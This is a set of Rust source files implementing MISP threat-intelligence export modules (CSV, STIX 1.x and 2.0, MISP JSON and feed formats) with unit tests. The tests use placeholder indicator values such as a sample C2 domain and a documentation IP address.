pub struct ExportRegistry {
    modules: Vec<Box<dyn ExportModule>>,
}

impl ExportRegistry {
    /// A registry with the five built-in modules installed: MISP JSON,
    /// STIX 2.0, STIX 1.x XML, MISP feed documents and CSV — the format
    /// set Section III-B1 names.
    pub fn with_builtins() -> Self {
        ExportRegistry {
            modules: vec![
                Box::new(misp_json::MispJsonExport),
                Box::new(stix2::Stix2Export),
                Box::new(stix1::Stix1Export),
                Box::new(misp_feed::MispFeedExport),
                Box::new(csv::CsvExport),
            ],
        }
    }

    /// Installs a custom module (later modules shadow earlier ones with
    /// the same name).
    pub fn install(&mut self, module: Box<dyn ExportModule>) {
        self.modules.push(module);
    }

    /// Exports an event in the named format.
    ///
    /// Returns `None` when no module claims the format.
    pub fn export(&self, format: &str, event: &MispEvent) -> Option<Result<String, MispError>> {
        let index = self.resolve(format)?;
        Some(self.modules[index].export(event))
    }

    /// Streams an event in the named format into `out`.
    ///
    /// Returns `None` when no module claims the format.
    pub fn write_into(
        &self,
        format: &str,
        event: &MispEvent,
        out: &mut dyn io::Write,
    ) -> Option<Result<(), MispError>> {
        let index = self.resolve(format)?;
        Some(self.modules[index].write_into(event, out))
    }

    /// Resolves a format name to the index of the module that claims it
    /// (the most recently installed wins). The index is stable until
    /// the next [`ExportRegistry::install`], so callers can resolve
    /// once and key caches on the small integer instead of the name.
    pub fn resolve(&self, format: &str) -> Option<usize> {
        self.modules.iter().rposition(|m| m.format_name() == format)
    }

    /// The module at a resolved index.
    pub fn module(&self, index: usize) -> Option<&dyn ExportModule> {
        self.modules.get(index).map(|m| m.as_ref())
    }

    /// Number of installed modules (resolved indexes are `< len()`).
    pub fn len(&self) -> usize {
        self.modules.len()
    }

    /// Whether no modules are installed.
    pub fn is_empty(&self) -> bool {
        self.modules.is_empty()
    }

    /// The installed format names, in registration order.
    pub fn formats(&self) -> Vec<&str> {
        self.modules.iter().map(|m| m.format_name()).collect()
    }
}

impl Default for ExportRegistry {
    fn default() -> Self {
        ExportRegistry::with_builtins()
    }
}

impl std::fmt::Debug for ExportRegistry {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ExportRegistry")
            .field("formats", &self.formats())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtins_are_registered() {
        let registry = ExportRegistry::with_builtins();
        assert_eq!(
            registry.formats(),
            vec!["misp-json", "stix2", "stix1", "misp-feed", "csv"]
        );
        assert_eq!(registry.len(), 5);
        assert!(!registry.is_empty());
    }

    #[test]
    fn unknown_format_returns_none() {
        let registry = ExportRegistry::with_builtins();
        let event = MispEvent::new("x");
        assert!(registry.export("openioc", &event).is_none());
        assert!(registry.resolve("openioc").is_none());
        assert!(registry
            .write_into("openioc", &event, &mut Vec::new())
            .is_none());
    }

    #[test]
    fn custom_module_shadows_builtin() {
        struct Custom;
        impl ExportModule for Custom {
            fn format_name(&self) -> &str {
                "csv"
            }
            fn write_into(
                &self,
                _event: &MispEvent,
                out: &mut dyn io::Write,
            ) -> Result<(), MispError> {
                out.write_all(b"custom!").map_err(MispError::from)
            }
        }
        let mut registry = ExportRegistry::with_builtins();
        registry.install(Box::new(Custom));
        let out = registry
            .export("csv", &MispEvent::new("x"))
            .unwrap()
            .unwrap();
        assert_eq!(out, "custom!");
        assert_eq!(registry.resolve("csv"), Some(5));
    }

    #[test]
    fn write_into_matches_export_for_builtins() {
        use crate::attribute::{AttributeCategory, MispAttribute};
        let registry = ExportRegistry::with_builtins();
        let mut event = MispEvent::new("streamed == owned");
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            "c2.evil.example",
        ));
        for format in registry.formats() {
            let owned = registry.export(format, &event).unwrap().unwrap();
            let mut streamed = Vec::new();
            registry
                .write_into(format, &event, &mut streamed)
                .unwrap()
                .unwrap();
            assert_eq!(streamed, owned.as_bytes(), "format {format}");
        }
    }
}
