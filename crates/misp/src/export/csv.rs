//! CSV export, for spreadsheet-grade consumers.

use crate::error::MispError;
use crate::event::MispEvent;

use super::ExportModule;

/// Exports one event as CSV with a header row: one line per attribute.
#[derive(Debug, Clone, Copy, Default)]
pub struct CsvExport;

impl ExportModule for CsvExport {
    fn format_name(&self) -> &str {
        "csv"
    }

    fn export(&self, event: &MispEvent) -> Result<String, MispError> {
        let mut out = String::from("event_id,event_info,type,category,value,to_ids,comment\n");
        for attribute in &event.attributes {
            let category = serde_json::to_value(attribute.category)?
                .as_str()
                .unwrap_or("Other")
                .to_owned();
            out.push_str(&format!(
                "{},{},{},{},{},{},{}\n",
                event.id,
                quote(&event.info),
                attribute.attr_type,
                quote(&category),
                quote(&attribute.value),
                attribute.to_ids,
                quote(&attribute.comment),
            ));
        }
        Ok(out)
    }
}

/// Quotes a CSV field when it needs quoting (commas, quotes, newlines).
fn quote(field: &str) -> String {
    if field.contains([',', '"', '\n']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::{AttributeCategory, MispAttribute};

    #[test]
    fn csv_shape() {
        let mut event = MispEvent::new("c2, primary"); // comma forces quoting
        event.add_attribute(
            MispAttribute::new("ip-dst", AttributeCategory::NetworkActivity, "203.0.113.9")
                .with_comment("said \"beacon\""),
        );
        let out = CsvExport.export(&event).unwrap();
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines.len(), 2);
        assert!(lines[0].starts_with("event_id,"));
        assert!(lines[1].contains("\"c2, primary\""));
        assert!(lines[1].contains("\"said \"\"beacon\"\"\""));
        assert!(lines[1].contains("203.0.113.9"));
    }

    #[test]
    fn empty_event_exports_header_only() {
        let out = CsvExport.export(&MispEvent::new("empty")).unwrap();
        assert_eq!(out.lines().count(), 1);
    }
}
