//! CSV export, for spreadsheet-grade consumers.

use std::io;

use crate::error::MispError;
use crate::event::MispEvent;

use super::ExportModule;

/// Exports one event as CSV with a header row: one line per attribute.
#[derive(Debug, Clone, Copy, Default)]
pub struct CsvExport;

impl ExportModule for CsvExport {
    fn format_name(&self) -> &str {
        "csv"
    }

    fn write_into(&self, event: &MispEvent, out: &mut dyn io::Write) -> Result<(), MispError> {
        out.write_all(b"event_id,event_info,type,category,value,to_ids,comment\n")?;
        for attribute in &event.attributes {
            let category = serde_json::to_value(attribute.category)?
                .as_str()
                .unwrap_or("Other")
                .to_owned();
            write!(out, "{},", event.id)?;
            write_quoted(out, &event.info)?;
            write!(out, ",{},", attribute.attr_type)?;
            write_quoted(out, &category)?;
            out.write_all(b",")?;
            write_quoted(out, &attribute.value)?;
            write!(out, ",{},", attribute.to_ids)?;
            write_quoted(out, &attribute.comment)?;
            out.write_all(b"\n")?;
        }
        Ok(())
    }
}

/// Writes a CSV field, quoting it when it needs quoting (commas,
/// quotes, newlines) without allocating intermediate strings.
fn write_quoted(out: &mut dyn io::Write, field: &str) -> io::Result<()> {
    if !field.contains([',', '"', '\n']) {
        return out.write_all(field.as_bytes());
    }
    out.write_all(b"\"")?;
    let mut rest = field;
    while let Some(at) = rest.find('"') {
        out.write_all(&rest.as_bytes()[..=at])?;
        out.write_all(b"\"")?;
        rest = &rest[at + 1..];
    }
    out.write_all(rest.as_bytes())?;
    out.write_all(b"\"")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::{AttributeCategory, MispAttribute};

    #[test]
    fn csv_shape() {
        let mut event = MispEvent::new("c2, primary"); // comma forces quoting
        event.add_attribute(
            MispAttribute::new("ip-dst", AttributeCategory::NetworkActivity, "203.0.113.9")
                .with_comment("said \"beacon\""),
        );
        let out = CsvExport.export(&event).unwrap();
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines.len(), 2);
        assert!(lines[0].starts_with("event_id,"));
        assert!(lines[1].contains("\"c2, primary\""));
        assert!(lines[1].contains("\"said \"\"beacon\"\"\""));
        assert!(lines[1].contains("203.0.113.9"));
    }

    #[test]
    fn empty_event_exports_header_only() {
        let out = CsvExport.export(&MispEvent::new("empty")).unwrap();
        assert_eq!(out.lines().count(), 1);
    }

    #[test]
    fn quoting_matches_reference_implementation() {
        fn quote_ref(field: &str) -> String {
            if field.contains([',', '"', '\n']) {
                format!("\"{}\"", field.replace('"', "\"\""))
            } else {
                field.to_owned()
            }
        }
        for field in [
            "plain",
            "",
            "has,comma",
            "has\"quote",
            "multi\nline",
            "\"",
            "\"\"",
            "ends with \"",
            "\" starts",
        ] {
            let mut streamed = Vec::new();
            write_quoted(&mut streamed, field).unwrap();
            assert_eq!(streamed, quote_ref(field).into_bytes(), "field {field:?}");
        }
    }
}
