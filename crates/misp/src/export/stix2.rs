//! STIX 2.0 export: MISP events → STIX bundles.
//!
//! "This information is then converted into STIX 2.0, if necessary for
//! the analysis, and exported to the Heuristic Component" (Section
//! III-C2). Detection-grade attributes become `indicator` objects with
//! STIX patterns; `vulnerability` attributes become `vulnerability`
//! SDOs; the event title becomes a `report` tying everything together.
//!
//! All STIX ids are *derived* (UUID v5) from the MISP attribute/event
//! UUIDs rather than generated at random, so serializing the same
//! event body twice yields byte-identical bundles — the property the
//! share cache and the parallel bundle assembly both rely on.

use std::io;

use cais_stix::prelude::*;

use crate::error::MispError;
use crate::event::MispEvent;

use super::ExportModule;

/// Exports events as STIX 2.0 bundle JSON.
#[derive(Debug, Clone, Copy, Default)]
pub struct Stix2Export;

impl ExportModule for Stix2Export {
    fn format_name(&self) -> &str {
        "stix2"
    }

    fn write_into(&self, event: &MispEvent, out: &mut dyn io::Write) -> Result<(), MispError> {
        serde_json::to_writer_pretty(out, &to_bundle(event))?;
        Ok(())
    }
}

/// Builds the STIX pattern for one detection-grade attribute.
fn pattern_for(attr_type: &str, value: &str) -> Option<String> {
    let escaped = value.replace('\\', "\\\\").replace('\'', "\\'");
    let pattern = match attr_type {
        "ip-src" | "ip-dst" => format!("[ipv4-addr:value = '{escaped}']"),
        "domain" | "hostname" => format!("[domain-name:value = '{escaped}']"),
        "url" => format!("[url:value = '{escaped}']"),
        "email-src" | "email-dst" => format!("[email-addr:value = '{escaped}']"),
        "md5" => format!("[file:hashes.MD5 = '{escaped}']"),
        "sha1" => format!("[file:hashes.SHA-1 = '{escaped}']"),
        "sha256" => format!("[file:hashes.SHA-256 = '{escaped}']"),
        _ => return None,
    };
    Some(pattern)
}

/// The deterministic bundle id for one event's bundle.
fn bundle_id(event: &MispEvent) -> StixId {
    StixId::derived("bundle", &format!("misp-event:{}", event.uuid))
}

/// Converts a MISP event into the SDOs of its STIX 2.0 bundle, in
/// deterministic order: one object per convertible attribute (event
/// order), then the report. Ids derive from the MISP UUIDs, so the
/// same event always maps to the same objects.
pub fn to_objects(event: &MispEvent) -> Vec<StixObject> {
    let mut objects: Vec<StixObject> = Vec::new();
    for attribute in &event.attributes {
        if let Some(pattern) = pattern_for(&attribute.attr_type, &attribute.value) {
            let mut builder = Indicator::builder(pattern, event.date);
            builder
                .id(StixId::derived(
                    "indicator",
                    &format!("misp-attribute:{}", attribute.uuid),
                ))
                .created(attribute.timestamp)
                .modified(attribute.timestamp)
                .label("malicious-activity");
            if !attribute.comment.is_empty() {
                builder.description(&attribute.comment);
            }
            objects.push(builder.build().into());
        } else if attribute.attr_type == "vulnerability" {
            let mut builder = Vulnerability::builder(&attribute.value);
            builder
                .id(StixId::derived(
                    "vulnerability",
                    &format!("misp-attribute:{}", attribute.uuid),
                ))
                .created(attribute.timestamp)
                .modified(attribute.timestamp)
                .external_reference(ExternalReference::cve(&attribute.value));
            if !attribute.comment.is_empty() {
                builder.description(&attribute.comment);
            }
            objects.push(builder.build().into());
        }
    }
    // A report object carries the event title and references everything.
    let mut report = Report::builder(&event.info, event.date);
    report.id(StixId::derived(
        "report",
        &format!("misp-event:{}", event.uuid),
    ));
    report.created(event.timestamp).modified(event.timestamp);
    report.label("threat-report");
    let refs: Vec<StixId> = objects.iter().map(|o| o.id().clone()).collect();
    for id in refs {
        report.object_ref(id);
    }
    objects.push(report.build().into());
    objects
}

/// Converts a MISP event into a STIX 2.0 bundle with a deterministic
/// id: exporting the same event twice yields byte-identical JSON.
pub fn to_bundle(event: &MispEvent) -> Bundle {
    let mut bundle = Bundle::new(to_objects(event));
    bundle.id = bundle_id(event);
    bundle
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::{AttributeCategory, MispAttribute};
    use cais_stix::object::ObjectType;

    fn sample() -> MispEvent {
        let mut event = MispEvent::new("struts campaign");
        event.add_attribute(MispAttribute::new(
            "ip-dst",
            AttributeCategory::NetworkActivity,
            "203.0.113.9",
        ));
        event.add_attribute(MispAttribute::new(
            "vulnerability",
            AttributeCategory::ExternalAnalysis,
            "CVE-2017-9805",
        ));
        event.add_attribute(MispAttribute::new(
            "md5",
            AttributeCategory::PayloadDelivery,
            "d41d8cd98f00b204e9800998ecf8427e",
        ));
        event
    }

    #[test]
    fn bundle_has_expected_objects() {
        let bundle = to_bundle(&sample());
        assert_eq!(bundle.objects_of_type(ObjectType::Indicator).count(), 2);
        assert_eq!(bundle.objects_of_type(ObjectType::Vulnerability).count(), 1);
        assert_eq!(bundle.objects_of_type(ObjectType::Report).count(), 1);
    }

    #[test]
    fn indicator_patterns_compile() {
        let bundle = to_bundle(&sample());
        for object in bundle.objects_of_type(ObjectType::Indicator) {
            let StixObject::Indicator(indicator) = object else {
                unreachable!()
            };
            indicator
                .compiled_pattern()
                .unwrap_or_else(|e| panic!("{}: {e}", indicator.pattern));
        }
    }

    #[test]
    fn report_references_all_objects() {
        let bundle = to_bundle(&sample());
        let report = bundle
            .objects_of_type(ObjectType::Report)
            .next()
            .expect("report present");
        let StixObject::Report(report) = report else {
            unreachable!()
        };
        assert_eq!(report.object_refs.len(), 3);
    }

    #[test]
    fn quote_escaping_in_patterns() {
        assert_eq!(
            pattern_for("domain", "o'neil.example").unwrap(),
            "[domain-name:value = 'o\\'neil.example']"
        );
    }

    #[test]
    fn export_module_emits_bundle_json() {
        let out = Stix2Export.export(&sample()).unwrap();
        let parsed = Bundle::from_json(&out).unwrap();
        assert_eq!(parsed.len(), 4);
    }

    #[test]
    fn export_is_deterministic() {
        let event = sample();
        let first = Stix2Export.export(&event).unwrap();
        let second = Stix2Export.export(&event).unwrap();
        assert_eq!(first, second);
        assert_eq!(to_bundle(&event), to_bundle(&event));
    }

    #[test]
    fn different_events_get_different_ids() {
        let a = to_bundle(&sample());
        let b = to_bundle(&MispEvent::new("other"));
        assert_ne!(a.id, b.id);
        // Attribute-derived object ids differ across events too.
        let other = to_bundle(&sample());
        assert_ne!(a.objects()[0].id(), other.objects()[0].id());
    }
}
