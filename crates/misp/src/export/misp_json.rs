//! The native MISP JSON export (`{"Event": …}` documents).
//!
//! "The JSON format is always used whenever two or more MISP instances
//! are exchanging intelligence among them" (Section III-C2).

use std::io;

use crate::error::MispError;
use crate::event::MispEvent;

use super::ExportModule;

/// Exports events as `{"Event": …}` MISP JSON documents.
#[derive(Debug, Clone, Copy, Default)]
pub struct MispJsonExport;

impl ExportModule for MispJsonExport {
    fn format_name(&self) -> &str {
        "misp-json"
    }

    fn write_into(&self, event: &MispEvent, out: &mut dyn io::Write) -> Result<(), MispError> {
        let doc = serde_json::json!({ "Event": event });
        serde_json::to_writer_pretty(out, &doc)?;
        Ok(())
    }
}

/// Serializes one event as a MISP JSON document.
///
/// # Errors
///
/// Returns [`MispError::Json`] on encoding failure.
pub fn to_document(event: &MispEvent) -> Result<String, MispError> {
    let doc = serde_json::json!({ "Event": event });
    Ok(serde_json::to_string_pretty(&doc)?)
}

/// Parses a MISP JSON document back into an event.
///
/// # Errors
///
/// Returns [`MispError::Json`] when the document is malformed or lacks
/// the `Event` wrapper.
pub fn from_document(json: &str) -> Result<MispEvent, MispError> {
    #[derive(serde::Deserialize)]
    struct Document {
        #[serde(rename = "Event")]
        event: MispEvent,
    }
    let doc: Document = serde_json::from_str(json)?;
    Ok(doc.event)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::{AttributeCategory, MispAttribute};
    use crate::tag::Tag;

    fn sample() -> MispEvent {
        let mut event = MispEvent::new("OSINT - struts exploitation");
        event.add_attribute(MispAttribute::new(
            "vulnerability",
            AttributeCategory::ExternalAnalysis,
            "CVE-2017-9805",
        ));
        event.add_tag(Tag::tlp_amber());
        event
    }

    #[test]
    fn document_roundtrip() {
        let event = sample();
        let json = to_document(&event).unwrap();
        assert!(json.contains("\"Event\""));
        assert!(json.contains("CVE-2017-9805"));
        let back = from_document(&json).unwrap();
        assert_eq!(back, event);
    }

    #[test]
    fn missing_wrapper_is_error() {
        assert!(from_document("{\"NotEvent\": {}}").is_err());
        assert!(from_document("garbage").is_err());
    }

    #[test]
    fn module_name() {
        assert_eq!(MispJsonExport.format_name(), "misp-json");
    }
}
