//! MISP *feed* export: the `{"Event": …}` feed document other MISP
//! instances (and this workspace's own `cais-feeds` parser) consume.
//!
//! This closes the sharing loop: a CAIS platform can publish its
//! enriched events as an OSINT feed for downstream platforms.

use std::io;

use crate::error::MispError;
use crate::event::MispEvent;

use super::ExportModule;

/// Exports events in MISP feed-document form.
#[derive(Debug, Clone, Copy, Default)]
pub struct MispFeedExport;

impl ExportModule for MispFeedExport {
    fn format_name(&self) -> &str {
        "misp-feed"
    }

    fn write_into(&self, event: &MispEvent, out: &mut dyn io::Write) -> Result<(), MispError> {
        serde_json::to_writer_pretty(out, &feed_value(event))?;
        Ok(())
    }
}

/// Builds the feed-document value tree for one event.
fn feed_value(event: &MispEvent) -> serde_json::Value {
    let attributes: Vec<serde_json::Value> = event
        .attributes
        .iter()
        .map(|attribute| {
            serde_json::json!({
                "type": attribute.attr_type,
                "value": attribute.value,
                "category": attribute.category,
                "comment": attribute.comment,
                "timestamp": attribute.timestamp.unix_secs().to_string(),
                "to_ids": attribute.to_ids,
                "uuid": attribute.uuid,
            })
        })
        .collect();
    let (y, m, d, ..) = event.date.to_civil();
    serde_json::json!({
        "Event": {
            "uuid": event.uuid,
            "info": event.info,
            "date": format!("{y:04}-{m:02}-{d:02}"),
            "published": event.published,
            "Attribute": attributes,
            "Tag": event.tags,
        }
    })
}

/// Serializes one event as a feed document: the subset of fields feed
/// consumers rely on (`info`, `date`, `Attribute[{type, value,
/// category, comment, timestamp}]`), with timestamps in the epoch-second
/// form real MISP feeds use.
///
/// # Errors
///
/// Returns [`MispError::Json`] on encoding failure.
pub fn to_feed_document(event: &MispEvent) -> Result<String, MispError> {
    Ok(serde_json::to_string_pretty(&feed_value(event))?)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::{AttributeCategory, MispAttribute};
    use crate::tag::Tag;

    fn sample() -> MispEvent {
        let mut event = MispEvent::new("CAIS enriched feed item");
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            "c2.evil.example",
        ));
        event.add_attribute(MispAttribute::new(
            "vulnerability",
            AttributeCategory::ExternalAnalysis,
            "CVE-2017-9805",
        ));
        event.add_tag(Tag::machine("cais", "threat-score", "2.7406"));
        event
    }

    #[test]
    fn feed_document_shape() {
        let doc = to_feed_document(&sample()).unwrap();
        let value: serde_json::Value = serde_json::from_str(&doc).unwrap();
        assert!(value["Event"]["Attribute"].as_array().unwrap().len() == 2);
        assert!(value["Event"]["date"].as_str().unwrap().len() == 10);
    }

    #[test]
    fn feed_roundtrips_through_the_feed_parser() {
        // The whole point: downstream CAIS instances must be able to
        // ingest our feed with their ordinary OSINT collector.
        let doc = to_feed_document(&sample()).unwrap();
        let records = cais_feeds::parse::misp_feed::parse(
            &doc,
            "upstream-cais",
            cais_feeds::ThreatCategory::CommandAndControl,
        )
        .unwrap();
        assert_eq!(records.len(), 2);
        assert_eq!(records[0].observable.value(), "c2.evil.example");
        assert_eq!(records[1].cve.as_deref(), Some("CVE-2017-9805"));
    }

    #[test]
    fn module_name() {
        assert_eq!(MispFeedExport.format_name(), "misp-feed");
    }
}
