//! STIX 1.x export: the legacy XML form the paper lists alongside STIX
//! 2.x ("they can be retrieved in various formats (e.g., MISP JSON,
//! STIX 1.x and STIX 2.x)", Section III-B1).
//!
//! The document is a simplified but well-formed `STIX_Package`: one
//! `Indicator` per detection-grade attribute with the appropriate CybOX
//! object, plus an `Exploit_Target` per CVE. XML is written by hand
//! with proper escaping — the structure is small and fixed, so a
//! full XML library would be dead weight.

use std::cell::RefCell;
use std::fmt::Write as _;
use std::io;

use crate::error::MispError;
use crate::event::MispEvent;

use super::ExportModule;

std::thread_local! {
    /// Reusable render buffer: the XML is composed as text, then
    /// written to the sink in one call.
    static XML_SCRATCH: RefCell<String> = const { RefCell::new(String::new()) };
}

/// Exports events as STIX 1.2 XML packages.
#[derive(Debug, Clone, Copy, Default)]
pub struct Stix1Export;

impl ExportModule for Stix1Export {
    fn format_name(&self) -> &str {
        "stix1"
    }

    fn write_into(&self, event: &MispEvent, out: &mut dyn io::Write) -> Result<(), MispError> {
        XML_SCRATCH.with(|cell| {
            let mut xml = cell.borrow_mut();
            xml.clear();
            write_xml(event, &mut xml);
            out.write_all(xml.as_bytes()).map_err(MispError::from)
        })
    }
}

/// Escapes text for XML content and attribute values.
fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            other => out.push(other),
        }
    }
    out
}

/// The CybOX object element for a MISP attribute type, when one exists.
fn cybox_object(attr_type: &str, value: &str) -> Option<String> {
    let value = escape(value);
    let object = match attr_type {
        "ip-src" | "ip-dst" => format!(
            "<cybox:Properties xsi:type=\"AddressObj:AddressObjectType\" category=\"ipv4-addr\">\
             <AddressObj:Address_Value>{value}</AddressObj:Address_Value></cybox:Properties>"
        ),
        "domain" | "hostname" => format!(
            "<cybox:Properties xsi:type=\"DomainNameObj:DomainNameObjectType\">\
             <DomainNameObj:Value>{value}</DomainNameObj:Value></cybox:Properties>"
        ),
        "url" => format!(
            "<cybox:Properties xsi:type=\"URIObj:URIObjectType\">\
             <URIObj:Value>{value}</URIObj:Value></cybox:Properties>"
        ),
        "md5" | "sha1" | "sha256" => format!(
            "<cybox:Properties xsi:type=\"FileObj:FileObjectType\"><FileObj:Hashes>\
             <cyboxCommon:Hash><cyboxCommon:Type>{}</cyboxCommon:Type>\
             <cyboxCommon:Simple_Hash_Value>{value}</cyboxCommon:Simple_Hash_Value>\
             </cyboxCommon:Hash></FileObj:Hashes></cybox:Properties>",
            attr_type.to_uppercase()
        ),
        _ => return None,
    };
    Some(object)
}

/// Serializes one event as a STIX 1.2 package.
pub fn to_xml(event: &MispEvent) -> String {
    let mut xml = String::new();
    write_xml(event, &mut xml);
    xml
}

/// Renders the STIX 1.2 package into a caller-provided buffer.
fn write_xml(event: &MispEvent, xml: &mut String) {
    let _ = writeln!(xml, r#"<?xml version="1.0" encoding="UTF-8"?>"#);
    let _ = writeln!(
        xml,
        r#"<stix:STIX_Package xmlns:stix="http://stix.mitre.org/stix-1" xmlns:indicator="http://stix.mitre.org/Indicator-2" xmlns:et="http://stix.mitre.org/ExploitTarget-1" xmlns:cybox="http://cybox.mitre.org/cybox-2" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="cais:Package-{}" version="1.2">"#,
        event.uuid
    );
    let _ = writeln!(
        xml,
        "  <stix:STIX_Header><stix:Title>{}</stix:Title></stix:STIX_Header>",
        escape(&event.info)
    );

    let indicators: Vec<String> = event
        .attributes
        .iter()
        .filter_map(|a| {
            cybox_object(&a.attr_type, &a.value).map(|object| {
                format!(
                    "    <stix:Indicator xsi:type=\"indicator:IndicatorType\" id=\"cais:indicator-{}\">\n\
                     \x20     <indicator:Title>{}</indicator:Title>\n\
                     \x20     <indicator:Observable><cybox:Object>{}</cybox:Object></indicator:Observable>\n\
                     \x20   </stix:Indicator>",
                    a.uuid,
                    escape(&format!("{} {}", a.attr_type, a.value)),
                    object,
                )
            })
        })
        .collect();
    if !indicators.is_empty() {
        let _ = writeln!(xml, "  <stix:Indicators>");
        for indicator in indicators {
            let _ = writeln!(xml, "{indicator}");
        }
        let _ = writeln!(xml, "  </stix:Indicators>");
    }

    let cves: Vec<&str> = event
        .attributes
        .iter()
        .filter(|a| a.attr_type == "vulnerability")
        .map(|a| a.value.as_str())
        .collect();
    if !cves.is_empty() {
        let _ = writeln!(xml, "  <stix:Exploit_Targets>");
        for cve in cves {
            let _ = writeln!(
                xml,
                "    <stix:Exploit_Target xsi:type=\"et:ExploitTargetType\">\
                 <et:Vulnerability><et:CVE_ID>{}</et:CVE_ID></et:Vulnerability>\
                 </stix:Exploit_Target>",
                escape(cve)
            );
        }
        let _ = writeln!(xml, "  </stix:Exploit_Targets>");
    }

    let _ = writeln!(xml, "</stix:STIX_Package>");
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::{AttributeCategory, MispAttribute};

    fn sample() -> MispEvent {
        let mut event = MispEvent::new("struts & friends <campaign>");
        event.add_attribute(MispAttribute::new(
            "ip-dst",
            AttributeCategory::NetworkActivity,
            "203.0.113.9",
        ));
        event.add_attribute(MispAttribute::new(
            "md5",
            AttributeCategory::PayloadDelivery,
            "d41d8cd98f00b204e9800998ecf8427e",
        ));
        event.add_attribute(MispAttribute::new(
            "vulnerability",
            AttributeCategory::ExternalAnalysis,
            "CVE-2017-9805",
        ));
        event
    }

    #[test]
    fn xml_contains_expected_elements() {
        let xml = to_xml(&sample());
        assert!(xml.starts_with("<?xml"));
        assert!(xml.contains("AddressObj:Address_Value>203.0.113.9<"));
        assert!(xml.contains("Simple_Hash_Value>d41d8cd98f00b204e9800998ecf8427e<"));
        assert!(xml.contains("<et:CVE_ID>CVE-2017-9805</et:CVE_ID>"));
        // Title is escaped.
        assert!(xml.contains("struts &amp; friends &lt;campaign&gt;"));
        assert!(!xml.contains("<campaign>"));
    }

    #[test]
    fn xml_tags_are_balanced() {
        let xml = to_xml(&sample());
        for tag in [
            "stix:STIX_Package",
            "stix:Indicators",
            "stix:Indicator",
            "stix:Exploit_Targets",
            "indicator:Observable",
        ] {
            let opens = xml.matches(&format!("<{tag}")).count();
            let closes = xml.matches(&format!("</{tag}>")).count();
            assert_eq!(opens, closes + opens - closes); // sanity
            assert_eq!(
                xml.matches(&format!("<{tag} ")).count() + xml.matches(&format!("<{tag}>")).count(),
                closes,
                "unbalanced {tag}"
            );
        }
    }

    #[test]
    fn event_without_detection_attributes_has_no_indicator_block() {
        let event = MispEvent::new("empty");
        let xml = to_xml(&event);
        assert!(!xml.contains("<stix:Indicators>"));
        assert!(xml.contains("</stix:STIX_Package>"));
    }

    #[test]
    fn escape_table() {
        assert_eq!(
            escape(r#"<a href="x">&'</a>"#),
            "&lt;a href=&quot;x&quot;&gt;&amp;&apos;&lt;/a&gt;"
        );
    }
}
